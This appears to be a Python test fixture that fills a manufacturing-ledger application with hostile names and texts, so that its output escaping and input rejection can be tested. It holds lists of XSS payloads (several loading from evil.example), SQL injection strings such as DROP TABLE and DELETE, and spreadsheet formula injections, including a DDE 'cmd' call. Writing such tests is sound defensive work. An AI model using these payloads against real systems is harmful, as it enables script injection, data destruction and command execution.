"""Texts that run where they are not shown as texts, and a works in which they are the names.

The scripts follow the contexts of the OWASP Cross Site Scripting Prevention Cheat Sheet
(element, attribute, address, script, style), written anew; the marks of SQL are those that end
a string, a statement or a comment in SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import json
from itertools import count

import numpy as np

from ringwright.assembly import SYSTEM, open_ledger
from ringwright.bench.acts import Move, Stop
from ringwright.bench.correcting import Correct
from ringwright.bench.history import LoadHistory, read_csv
from ringwright.bench.rules import make_booking
from ringwright.bench.service import Book
from ringwright.core.clock import FixedClock
from ringwright.core.errors import RingwrightError
from ringwright.core.fields import problem_of_code, problem_of_text
from ringwright.core.instants import parse_instant
from ringwright.db import Store
from ringwright.floor.service import MoveMany, Prioritise, Seek, ShutIt
from ringwright.furnaces.card import Channel, Furnace, Proof
from ringwright.furnaces.service import Prove, ReviseRecipe, SetFurnace
from ringwright.heat.recipe import SOAK, Recipe, Segment, Use
from ringwright.heat.trace import Trace
from ringwright.heatruns.readings import KeepReadings
from ringwright.heatruns.running import Abort, Load, OpenRun, Start
from ringwright.ledger.service import Command, Ledger
from ringwright.ledger.transaction import Actor
from ringwright.parts.queries import read_events
from ringwright.routecards.service import LoadRoute
from ringwright.routecards.toml import parse_route
from ringwright.sets.service import Reserve
from ringwright.sites.service import ExtendSite
from ringwright.sites.toml import parse_site
from ringwright.trace.question import Question
from ringwright.trace.service import Contain, plans_of
from ringwright.trace.touched import read_touched
from ringwright.wallmaps.service import KeepWall, SetWallPlan, WithdrawWall
from ringwright.walls.plan import WallPlan, Zone
from ringwright.walls.reading import WallReading

SCRIPTS = (
    "<script>hostile(1)</script>",
    "<ScRiPt src=//evil.example/2.js></sCrIpT>",
    "</script><script>hostile(3)</script>",
    "<img src=x onerror=hostile(4)>",
    "<img/src=x/onerror=hostile(5)//",
    '"><svg/onload=hostile(6)>',
    "'><svg onload='hostile(7)'>",
    '" onmouseover="hostile(8)" x="',
    "' onfocus='hostile(9)' autofocus='",
    "x onclick=hostile(10) y",
    "<svg><animate onbegin=hostile(11) attributeName=x dur=1s>",
    "<svg><script>hostile(12)</script></svg>",
    "<math><mi xlink:href='javascript:hostile(13)'>x</mi></math>",
    "javascript:hostile(14)",
    "JaVaScRiPt:hostile(15)//",
    "data:text/html,<script>hostile(16)</script>",
    "<a href='javascript:hostile(17)'>x</a>",
    "<iframe srcdoc='<script>parent.hostile(18)</script>'>",
    "<iframe src=javascript:hostile(19)>",
    "<object data=//evil.example/20>",
    "<embed src=//evil.example/21>",
    "<base href=//evil.example/22/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/23>",
    "<link rel=stylesheet href=//evil.example/24.css>",
    "<style>@import '//evil.example/25.css';</style>",
    "<div style=background:url(//evil.example/26)>",
    "<form action=//evil.example/27><button>go</button>",
    "<button formaction=javascript:hostile(28)>x</button>",
    "<details open ontoggle=hostile(29)>",
    "<video><source onerror=hostile(30)></video>",
    "<body onload=hostile(31)>",
    "</title><script>hostile(32)</script>",
    "</textarea><script>hostile(33)</script>",
    "</option></select><script>hostile(34)</script>",
    "</desc></svg><script>hostile(35)</script>",
    "<!--><script>hostile(36)</script>-->",
    "]]><script>hostile(37)</script>",
    "&lt;script&gt;hostile(38)&lt;/script&gt;",
    "%3Cscript%3Ehostile(39)%3C/script%3E",
    "\\u003cscript\\u003ehostile(40)\\u003c/script\\u003e",
    "{{ 9119*7 }}{% raw %}${9119*7}<%= 9119*7 %>#{9119*7}",
    "<div hx-get=//evil.example/42 hx-trigger=load>",
    "<div hx-on:click=hostile(43) data-hx-vals='js:{a:hostile(43)}'>",
)
PRODUCT_OF_TEMPLATE = str(9119 * 7)
"""What a template that ran the text about 9119 would show."""
SQL = (
    "'; DROP TABLE event; --",
    "' OR '1'='1",
    '" OR ""="',
    "') OR 1=1 --",
    "1; DELETE FROM part_now",
    "x'/**/UNION/**/SELECT/**/1,2,3--",
    "%' AND 1=CAST((SELECT 1) AS int) --",
    "\\'; SELECT 1; --",
    "$$; SELECT 1; $$",
    ":secret %s %(x)s ? {0}",
    "_%_%",
    "x' ESCAPE '",
    "V-001'\x00--",
)
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\x00=1", "\uff1d1+1", "\uff0b1+1",
    "\uff0d1+1", "\uff20SUM(1)", '=HYPERLINK("//evil.example","x")', "=cmd|'/C calc'!A0",
)  # fmt: skip
CODE = "NORD"
NOW = "2026-10-01T12:00:00+02:00"
COLUMNS = (
    "at", "serial", "product", "act", "step", "outcome", "defect", "characteristic", "value",
    "unit", "lot", "station", "by", "reason", "gauge",
)  # fmt: skip
BOSS = Actor(
    code="sup-1",
    roles=frozenset({"supervisor", "inspector", "quality-engineer", "planner", "maker"}),
)
NAMES = tuple(text for text in (*SCRIPTS, *SQL, *FORMULAS) if problem_of_code(text) is None)
"""Those that a code or serial may be."""
TEXTS = tuple(text for text in (*SCRIPTS, *SQL, *FORMULAS) if problem_of_text(text) is None)
"""Those that a line of free text may be."""
SERIALS = tuple(text for text in NAMES if len(text) <= 60)
PRODUCT = SERIALS[0]
STATION = SCRIPTS[5]
LOT = SCRIPTS[3]
HEATED = SCRIPTS[13]
RUN = f"{STATION}-0001"
RECIPE = NAMES[4]
LAID_IN = f"{NAMES[5]}0"


def quoted(text: str) -> str:
    """A text as TOML writes it; the two agree on JSON's escapes."""
    return json.dumps(text)


def site_file() -> str:
    """The site: its name, stations, calendars and people are hostile."""
    people = "".join(
        f'[[person]]\ncode = {quoted(code)}\nroles = ["maker", "inspector"]\n' for code in NAMES
    )
    stations = "".join(
        f"[[station]]\ncode = {quoted(code)}\nname = {quoted(name)}\ngroup = {quoted(code)}\n"
        'calendar = "shop"\n'
        for code, name in zip(NAMES, TEXTS, strict=False)
    )
    return (
        f'[site]\ncode = "{CODE}"\nname = {quoted(SCRIPTS[0])}\nzone = "Europe/Oslo"\n'
        '[[calendar]]\ncode = "shop"\n[[calendar.shift]]\ndays = ["mon-fri"]\n'
        f'start = "06:00"\nend = "22:00"\nname = {quoted(SCRIPTS[3])}\n'
        '[[person]]\ncode = "sup-1"\nroles = ["supervisor", "quality-engineer", "planner"]\n'
        f"{stations}{people}"
    )


def route_file(code: str, name: str) -> str:
    """A product whose names, steps, characteristics and rework cards are hostile."""
    return f"""
[product]
code = {quoted(code)}
name = {quoted(name)}
family = "fan-blade"
target_per_week = 4
set_size = 2
[[step]]
number = 10
name = {quoted(SCRIPTS[8])}
kind = "machining"
[[step]]
number = 20
name = {quoted(SCRIPTS[31])}
kind = "inspection"
[[step.characteristic]]
code = {quoted(SCRIPTS[6])}
lower = 1.0
upper = 2.0
unit = {quoted(SCRIPTS[4])}
decimals = 1
gauge_kind = {quoted(SCRIPTS[2])}
[[rework_card]]
code = {quoted(SCRIPTS[7])}
name = {quoted(SCRIPTS[33])}
raised_at = 20
repeat = [10]
"""


def heat_route() -> str:
    """A product that goes into the furnace first of all."""
    return f"""
[product]
code = {quoted(HEATED)}
name = {quoted(SCRIPTS[3])}
[[step]]
number = 10
name = {quoted(SCRIPTS[8])}
kind = "heat-cycle"
"""


def history() -> str:
    """Each hostile serial made, measured and ended in its own way, particulars as hostile."""
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(COLUMNS)
    for number, serial in enumerate(SERIALS):
        text = NAMES[(number * 3) % len(NAMES)]
        name = NAMES[(number * 7) % len(NAMES)]
        given = {"serial": serial, "product": PRODUCT, "station": name, "by": name}
        rows: list[dict[str, object]] = [
            {"at": "06:00", "act": "create", "lot": LOT if number % 3 else name},
            {"at": "07:00", "act": "begin", "step": 10},
            {"at": "08:00", "act": "end", "step": 10, "outcome": "pass"},
            {"at": "09:00", "act": "begin", "step": 20},
            {
                "at": "09:10", "act": "measure", "step": 20, "characteristic": SCRIPTS[6],
                "value": 1.5, "unit": SCRIPTS[4], "gauge": name,
            },
        ]  # fmt: skip
        if number % 4 == 0:
            end = {"at": "10:00", "act": "end", "step": 20, "outcome": "scrap", "defect": text}
            rows.append(end)
        elif number % 4 == 1:
            rows.append({"at": "10:00", "act": "end", "step": 20, "outcome": "pass"})
        elif number % 4 == 2:
            rows.append({"at": "10:00", "act": "hold", "step": 20, "reason": text})
        for row in rows:
            full = {**given, **row, "at": f"2026-09-30T{row['at']}+02:00"}
            writer.writerow([str(full.get(column, "")) for column in COLUMNS])
    return out.getvalue()


def open_hostile(url: str) -> Ledger:
    """The record of a works in which every name and every text is hostile."""
    ledger = open_ledger(Store(url), FixedClock(parse_instant(NOW)))
    ledger.open_site(CODE)
    ledger.execute(CODE, ExtendSite(file=parse_site(site_file(), "site")), SYSTEM)
    for code, name in ((PRODUCT, SCRIPTS[31]), (SCRIPTS[9], SCRIPTS[40])):
        card = parse_route(route_file(code, name), "route")
        ledger.execute(CODE, LoadRoute(card=card), SYSTEM)
    ledger.execute(CODE, LoadHistory(rows=read_csv(history())), SYSTEM)
    done = sum(_done(ledger, command) for command in _acts(ledger))
    assert done > 60, f"only {done} of the hostile acts were taken"
    _heat(ledger)
    _walls(ledger)
    return ledger


def _walls(ledger: Ledger) -> None:
    """A wall plan whose zones are hostile, and sets of readings with hostile sources."""
    halves = ((0.0, 150.0), (150.0, 300.0))
    zones = tuple(
        Zone(
            name=SCRIPTS[20 + place], from_mm=low, to_mm=high, nominal_mm=2.5, lower_mm=2.2,
            upper_mm=2.8, stock={20: 1.0},
        )
        for place, (low, high) in enumerate(halves)
    )  # fmt: skip
    plan = WallPlan(
        product=PRODUCT, revision=NAMES[4], effective_from="2026-01-01", length_mm=300.0,
        steps=(20,), zones=zones, gap_mm=60.0, gap_deg=30.0,
    )  # fmt: skip
    ledger.execute(CODE, SetWallPlan(plan=plan, reason=SCRIPTS[13], key="walls"), BOSS)
    for place, serial in enumerate(SERIALS[3:20:4]):
        wall = tuple(
            WallReading(
                station_mm=30.0 + 60 * (n // 12), angle_deg=30.0 * (n % 12),
                wall_mm=2.1 + 0.01 * n, point=TEXTS[n % len(TEXTS)],
            )
            for n in range(60)
        )  # fmt: skip
        keep = KeepWall(
            serial=serial, readings=wall, method="ultrasonic", source=SCRIPTS[14 + place],
            key=f"wall-{place}",
        )  # fmt: skip
        entry = ledger.execute(CODE, keep, BOSS)["entry"]
    drop = WithdrawWall(serial=serial, entry=entry, reason=SCRIPTS[30], key="drop")
    ledger.execute(CODE, drop, BOSS)


def _heat(ledger: Ledger) -> None:
    """A furnace run whose names, readings and reasons are hostile, broken off at its end."""
    card = parse_route(heat_route(), "route")
    ledger.execute(CODE, LoadRoute(card=card), SYSTEM)
    keys = (f"heat-{number}" for number in count(1))
    furnace = Furnace(
        code=STATION,
        positions=(NAMES[1], NAMES[2]),
        channels=(Channel(code=NAMES[3]), Channel(code="tc2_c")),
        proofs={"leak": Proof(days=30)},
    )
    recipe = Recipe(
        code=RECIPE,
        name=SCRIPTS[0],
        segments=(Segment(name=SCRIPTS[10], kind=SOAK, target_c=900.0, tolerance_c=10.0),),
        uses=(Use(product=HEATED, step=10),),
    )
    run = RUN
    commands: list[Command] = [
        SetFurnace(furnace=furnace, key=next(keys)),
        ReviseRecipe(recipe=recipe, reason=SCRIPTS[5], key=next(keys)),
        Prove(
            furnace=STATION, what="leak", on="2026-09-30", good=True, certificate=SCRIPTS[6],
            note=SCRIPTS[7], key=next(keys),
        ),
        Book(booking=make_booking(
            {"act": "create", "serial": LAID_IN, "product": HEATED, "key": next(keys)}, None
        )),
        OpenRun(furnace=STATION, recipe=recipe.code, key=next(keys)),
        Load(run=run, serial=LAID_IN, key=next(keys)),
        Start(run=run, key=next(keys)),
        KeepReadings(run=run, trace=_hot(), source=SCRIPTS[11], key=next(keys)),
        Abort(run=run, reason=SCRIPTS[12], key=next(keys)),
    ]  # fmt: skip
    for command in commands:
        ledger.execute(CODE, command, BOSS)


def _hot() -> Trace:
    """Readings from the moment the cycle began, one channel hotter than it may be."""
    at_s = parse_instant(NOW) / 1e6 + 10.0 * np.arange(400.0)
    at_s = at_s.astype(np.float64)
    level = np.interp(np.arange(400), [0, 100, 400], [20.0, 900.0, 900.0])
    wave = np.sin(np.arange(400.0))
    return Trace(at_s=at_s, temperatures_c={NAMES[3]: level + wave + 30, "tc2_c": level - wave})


def _done(ledger: Ledger, command: Command) -> bool:
    """True where the rules took the act; what they refuse is no trouble here."""
    try:
        ledger.execute(CODE, command, BOSS)
    except RingwrightError:
        return False
    return True


def _acts(ledger: Ledger) -> list[Command]:
    """What people did with hostile reasons, places, defects."""
    keys = (f"hostile-{number}" for number in count(1))
    lot = Question(kind="lot", value=LOT)
    with ledger.read(CODE) as read:
        plans = plans_of(read_touched(read, lot))
        entry = read_events(read, SERIALS[3])[-1].site_seq
    found: list[Command] = [
        Contain(key=next(keys), reason=SCRIPTS[5], question=lot, plans=plans)
    ]
    open_ones = [serial for number, serial in enumerate(SERIALS) if number % 4 == 3]
    for number, text in enumerate(TEXTS):
        serial = open_ones[number % len(open_ones)]
        found += [
            Move(serial=serial, to=text, key=next(keys)),
            MoveMany(parts=(), carriers=(f"T{text}",), to=f"bay {text}", key=next(keys)),
            ShutIt(kind="lot", code=text, reason=text, opener="supervisor", key=next(keys)),
            Seek(serial=serial, reason=text, key=next(keys)),
            Prioritise(serial=serial, rank=1, reason=text, key=next(keys)),
        ]
    for number, serial in enumerate(open_ones):
        text = TEXTS[(number * 5) % len(TEXTS)]
        found.append(
            Stop(serial=serial, key=next(keys), defect=text, place_on_part=text, reason=text)
        )
    pair = tuple(s for n, s in enumerate(SERIALS) if n % 12 == 9)[:2]
    found += [
        Reserve(product=PRODUCT, slots=pair, reason=SCRIPTS[0], key=next(keys)),
        Correct(serial=SERIALS[3], key=next(keys), entry=entry, reason=SCRIPTS[3], void=True),
    ]
    return found
